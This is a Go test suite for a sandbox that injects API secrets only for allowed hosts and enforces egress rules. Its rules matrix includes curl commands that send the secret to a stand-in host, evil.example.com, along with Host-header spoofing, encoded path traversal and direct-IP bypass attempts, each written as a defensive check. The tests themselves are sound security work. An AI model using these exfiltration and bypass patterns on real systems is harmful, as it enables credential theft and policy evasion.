// SPDX-License-Identifier: Apache-2.0

package roadtest

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/caisson-run/caisson"
	"github.com/caisson-run/caisson/sandbox"
)

// goClient is the variable that makes the test binary ask for an address: a real
// client in Go, inside.
const goClient = "CAISSON_TEST_ASK"

func init() {
	if url := os.Getenv(goClient); url != "" {
		askInGo(url)
	}
}

func askInGo(url string) {
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err == nil {
		req.Header.Set("Authorization", "Bearer "+os.Getenv("KEY"))
		var res *http.Response
		if res, err = http.DefaultClient.Do(req); err == nil {
			_, err = io.Copy(os.Stdout, res.Body)
		}
	}
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	os.Exit(0)
}

const apiKey = "sk-test-the-real-value"

// Real clients inside gVisor trust the router, each by its own rules, and the
// host gets the secret that they do not have.
func TestTerminatedClients(t *testing.T) {
	onInternet(t, func(t *testing.T) { terminatedClients(t, plugIn(t)) })
}

func terminatedClients(t *testing.T, ca string) {
	t.Setenv("API_KEY", apiKey)
	script := filepath.Join(t.TempDir(), "ask.py")
	if err := os.WriteFile(script, []byte(`import os, sys, urllib.request
r = urllib.request.Request("https://good.example.com/key", headers={"Authorization": "Bearer " + os.environ["KEY"]})
print(urllib.request.urlopen(r, timeout=20).read().decode())
`), 0o644); err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	const bearer = `-H "Authorization: Bearer $KEY"`
	clients := map[string]struct{ command, want string }{
		"curl, HTTP/2":        {"curl -sS -m 20 " + bearer + " https://good.example.com/key", "HTTP/2.0 Bearer"},
		"curl, HTTP/1.1":      {"curl -sS -m 20 --http1.1 " + bearer + " https://good.example.com/key", "HTTP/1.1 Bearer"},
		"curl, the usual one": {"unset CURL_CA_BUNDLE SSL_CERT_FILE; curl -sS -m 20 " + bearer + " https://good.example.com/key", "HTTP/2.0 Bearer"},
		"python":              {"python3 ask.py", "HTTP/1.1 Bearer"},
		"go":                  {goClient + "=https://good.example.com/key ./client", "HTTP/2.0 Bearer"},
		"git":                 {"git clone -q https://x:$KEY@good.example.com/repo r && cat r/hello", "hello from git"},
	}
	for program, command := range map[string]string{ // where there are
		"node": `node -e 'fetch("https://good.example.com/key", {headers: {Authorization: "Bearer " + process.env.KEY}}).then(r => r.text()).then(console.log)'`,
		"wget": "unset SSL_CERT_FILE; wget -q -O - --header \"Authorization: Bearer $KEY\" https://good.example.com/key",
	} {
		if _, err := exec.LookPath(program); err == nil {
			clients[program] = struct{ command, want string }{command, "HTTP/1.1 Bearer"}
		}
	}
	mounts := []caisson.Mount{{Source: script}, {Source: exe, Target: "/home/user/client"}}
	if f, err := os.Open(exe); err != nil { // where an ordinary user has no way
		delete(clients, "go")
		mounts = mounts[:1]
	} else {
		f.Close()
	}
	memory := int64(1 << 30)
	if os.Geteuid() != 0 {
		memory = 0 // where no control group may be made
	}
	commands := map[string]string{}
	for name, c := range clients {
		commands[name] = c.command
	}
	res, err := caisson.Run(t.Context(), caisson.Request{
		Command: all(commands), Allow: []string{"good.example.com"}, UpstreamCA: ca,
		Secrets: []caisson.Secret{{Name: "KEY", From: "env:API_KEY", Hosts: []string{"good.example.com"}}},
		Mounts:  mounts,
		Limits:  caisson.Limits{Wall: time.Minute, Memory: memory},
	})
	if err != nil {
		t.Fatal(err)
	}
	got := outputs(t, res)
	for name, c := range clients {
		if !strings.Contains(got[name], c.want) {
			t.Errorf("%s: %q; want %q", name, got[name], c.want)
		}
	}
	if p := res.Posture; !slices.Equal(p.Ended, []string{"good.example.com"}) || !slices.Equal(p.Secrets, []string{"KEY"}) {
		t.Errorf("%+v", p)
	}
	nowhere(t, apiKey)
}

// all is one command that runs many, so that they share a sandbox.
func all(commands map[string]string) []string {
	script := ""
	for name, c := range commands {
		script += "echo \"== " + name + "\"; (" + c + ") 2>&1; echo\n"
	}
	return []string{"sh", "-c", script}
}

// outputs are what they wrote. The secret is in none of it.
func outputs(t *testing.T, res *caisson.Result) map[string]string {
	t.Helper()
	text, err := json.Marshal(res)
	if err != nil || strings.Contains(string(text), apiKey) || strings.Contains(string(res.Stdout)+string(res.Stderr), apiKey) {
		t.Errorf("the result shows the secret: %s %s, %v", res.Stdout, text, err)
	}
	if res.Status == sandbox.StatusDenied {
		t.Fatalf("%s (%s)", res.Reason, res.Rule)
	}
	got := map[string]string{}
	for part := range strings.SplitSeq("\n"+string(res.Stdout), "\n== ") {
		name, out, _ := strings.Cut(part, "\n")
		got[name] = strings.TrimSpace(out)
	}
	return got
}

// nowhere searches caisson's state directory for a secret.
func nowhere(t *testing.T, secret string) {
	t.Helper()
	err := filepath.WalkDir(os.Getenv("CAISSON_STATE"), func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if err == nil && strings.Contains(string(b), secret) {
			t.Errorf("%s has the secret", path)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// The matrix of judged requests and of what goes around them, with a real client
// and the real road.
func TestTerminatedRules(t *testing.T) {
	onInternet(t, func(t *testing.T) {
		ca := plugIn(t)
		t.Setenv("API_KEY", apiKey)
		file := filepath.Join(t.TempDir(), "policy.yaml")
		text := fmt.Sprintf(`version: 1
network:
  allow:
    - internet
    - {host: good.example.com, methods: [GET, POST], paths: ["/repos/**"], max_body: 10}
  upstream_ca: %s
secrets:
  - {name: KEY, from: "env:API_KEY", hosts: [other.example.com], format: "Bearer {}"}
`, ca)
		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		c, err := caisson.Open(t.Context(), caisson.Options{Policy: file})
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		cases := map[string]struct{ curl, want string }{
			"allowed":                 {"https://good.example.com/repos/a", "good host"},
			"allowed, plain":          {"http://good.example.com/repos/a", "good host"},
			"another path":            {"https://good.example.com/user", "path is not among"},
			"another path, plain":     {"http://good.example.com/user", "path is not among"},
			"upwards":                 {"--path-as-is https://good.example.com/repos/../user", "dots"},
			"upwards, encoded":        {"--path-as-is https://good.example.com/repos/%2e%2e/user", "dots"},
			"another method":          {"-X DELETE https://good.example.com/repos/a", "DELETE"},
			"too much":                {"-d 12345678901 https://good.example.com/repos/a", "more than 10 bytes"},
			"enough":                  {"-d 1234567890 https://good.example.com/repos/a", "good host"},
			"another Host":            {"-H Host:evil.example.com https://good.example.com/repos/a", "egress_denied"},
			"by number":               {"-k --resolve good.example.com:443:" + goodAddr + " https://good.example.com/user", ""},
			"by number, plain":        {"--resolve good.example.com:80:" + goodAddr + " http://good.example.com/user", "needs its name"},
			"somebody's account":      {"-H Authorization:theirs https://other.example.com/key", "credential of its own"},
			"somebody's, plain":       {"-H Authorization:theirs http://other.example.com/key", "credential of its own"},
			"somebody's, by number":   {"-k --resolve other.example.com:443:" + goodAddr + " -H Authorization:theirs https://other.example.com/key", ""},
			"ours":                    {"-H Authorization:$KEY https://other.example.com/key", "Bearer ***"},
			"ours, plain":             {"-H Authorization:$KEY http://other.example.com/key", "credential of its own"},
			"ours, elsewhere":         {"-k -H Authorization:$KEY https://evil.example.com/key", "caisson-secret-"},
			"ours, elsewhere, plain":  {"-H Authorization:$KEY http://evil.example.com/key", "caisson-secret-"},
			"ours, in another header": {"-H X-Note:$KEY https://other.example.com/key", "X-Note: caisson-secret-"},
		}
		commands := map[string]string{}
		for name, c := range cases {
			commands[name] = "curl -s -m 20 " + c.curl
		}
		res, err := c.Run(t.Context(), caisson.Request{Command: all(commands)})
		if err != nil {
			t.Fatal(err)
		}
		got := outputs(t, res)
		for name, c := range cases {
			if out := got[name]; c.want == "" && out != "" || !strings.Contains(out, c.want) {
				t.Errorf("%s: %q; want %q", name, out, c.want)
			}
		}
		if !slices.ContainsFunc(res.Network.Refused, func(r sandbox.Connection) bool {
			return r.Method == "GET" && r.Path == "/user" && strings.HasSuffix(r.From, "policy.yaml:5")
		}) {
			t.Errorf("it is not recorded: %+v", res.Network.Refused)
		}
	})
}
